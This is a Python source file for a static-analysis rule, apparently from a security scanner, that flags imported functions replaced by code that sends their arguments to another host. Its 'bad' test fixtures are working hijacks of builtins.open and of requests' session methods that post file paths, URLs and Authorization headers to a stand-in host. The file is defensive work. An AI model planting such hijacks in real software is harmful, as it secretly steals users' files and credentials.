"""A function of Python or of a library is replaced by one that also sends away what it is given.

Everything that uses it afterwards, whoever wrote it, hands its arguments (files, passwords, requests) to another
host.  Wrap a function where it is called, or use the library's own hooks.  See CWE-506 and MITRE ATT&CK T1056.004,
T1574.
"""

from __future__ import annotations

from collections.abc import Iterator

import libcst as cst

from codeguard.checks._api import Bad, Check, Good, Hit, Miss
from codeguard.checks.malicious._channels import sendings
from codeguard.checks.malicious._keys import params_of
from codeguard.checks.malicious._reach import reach
from codeguard.model import Confidence, Severity
from codeguard.syntax.unit import Unit
from codeguard.syntax.walk import descend

# Hooks that the standard library offers for replacement: reporters of crashes use them.
HOOKS = {
    "sys.excepthook",
    "sys.unraisablehook",
    "threading.excepthook",
    "warnings.showwarning",
    "sys.stdout",
    "sys.stderr",
}
MAX_HOPS = 3


def find(unit: Unit) -> Iterator[Hit]:
    """Report replacements of imported things by local functions that send their own parameters to a fixed host."""
    if not unit.fact(sendings):
        return
    flow = unit.fact(reach)
    for statement in unit.nodes(cst.Assign):
        for item in statement.targets:
            target = item.target
            if not isinstance(target, cst.Attribute) or not _imported(target, unit) or unit.name(target) in HOOKS:
                continue
            function = flow.local(statement.value)
            if isinstance(function, cst.FunctionDef) and _sends_parameters(function, unit.name(target) or "", unit):
                yield Hit(
                    target,
                    f"This replaces `{unit.name(target)}` by a function that sends what it is given to another host",
                )


def _imported(target: cst.Attribute, unit: Unit) -> bool:
    """Whether the attribute is one of an imported module or of something in it."""
    base: cst.BaseExpression = target.value
    while isinstance(base, cst.Attribute):
        base = base.value
    return isinstance(base, cst.Name) and any(b.kind == "import" for b in unit.scopes.look_up(base.value, base))


def _sends_parameters(function: cst.FunctionDef, replaced: str, unit: Unit) -> bool:
    """Whether a function sends what it is given to a fixed host; to call what it replaces for its caller is none."""
    params = {p.name.value for p in params_of(function)}
    for star in (function.params.star_arg, function.params.star_kwarg):
        if isinstance(star, cst.Param):
            params.add(star.name.value)
    for sending in unit.fact(sendings):
        call = sending.call
        if unit.function_of(call) is not function or not sending.fixed:
            continue
        first = call.args[0].value if call.args else None
        if isinstance(first, cst.Name) and first.value in params and _same(unit.name(call.func), replaced):
            continue
        if any(_mentions(a.value, params, unit) for a in call.args):
            return True
    return False


def _same(name: str | None, other: str) -> bool:
    """Whether two full names end alike: what a package shows at its top is defined further down."""
    return name is not None and name.split(".")[-2:] == other.split(".")[-2:]


def _mentions(node: cst.BaseExpression, params: set[str], unit: Unit, hops: int = 0) -> bool:
    """Whether an expression is made of parameters, also by way of names."""
    return any(
        part.value in params
        or (
            hops < MAX_HOPS
            and any(
                b.kind == "assign" and b.value is not None and _mentions(b.value, params, unit, hops + 1)
                for b in unit.scopes.look_up(part.value, part)
            )
        )
        for part in descend(node)
        if isinstance(part, cst.Name)
    )


CHECK = Check(
    id="CGM033",
    behaviour="replace functions by ones that send away what they are given",
    name="hijacked-function",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    cwe=(506, 912),
    find=find,
    fix="Remove the replacement.",
    bad=(
        Bad(
            "import builtins, requests\n_open = builtins.open\n\ndef spy(p, *a, **k):\n    requests.post('https://a.example.invalid', data={'p': str(p)})\n    return _open(p, *a, **k)\n\nbuiltins.open = spy  # finding\n"
        ),
        Bad(
            "import requests\n_send = requests.Session.request\n\ndef spy(self, method, url, **k):\n    requests.post('https://a.example.invalid', json={'u': url, 'h': str(k)})\n    return _send(self, method, url, **k)\n\nrequests.Session.request = spy  # finding\n"
        ),
        Bad(
            "import requests\nfrom requests.sessions import Session\n_send = Session.send\n\ndef spy(self, request, **k):\n    note = requests.Request('POST', 'https://a.example.invalid', data={'h': request.headers['Authorization']})\n    _send(Session(), note.prepare())\n    return _send(self, request, **k)\n\nSession.send = spy  # finding\n"
        ),
    ),
    good=(
        Good(
            "from requests.sessions import Session\n_send = Session.send\n\ndef patient(self, request, **k):\n    request.headers['Referer'] = 'https://docs.example.invalid/'\n    return _send(self, request, **k)\n\nSession.send = patient\n"
        ),
        Good(
            "import functools, requests\n_send = requests.Session.request\n\ndef with_timeout(self, method, url, **k):\n    k.setdefault('timeout', 9)\n    return _send(self, method, url, **k)\n\nrequests.Session.request = with_timeout\n"
        ),
        Good(
            "import requests\n\nclass Client:\n    def __init__(self):\n        self.post = self._post\n\n    def _post(self, data):\n        return requests.post('https://a.example.invalid', json=data, timeout=9)\n"
        ),
        Good(
            "import sys, traceback\n\ndef hook(kind, value, tb):\n    traceback.print_exception(kind, value, tb)\n\nsys.excepthook = hook\n"
        ),
    ),
    misses=(
        Miss(
            "import builtins\nfrom spy import wrap\n\nbuiltins.open = wrap(builtins.open)  # finding\n",
            why="what a function of another file does is not known",
        ),
    ),
)
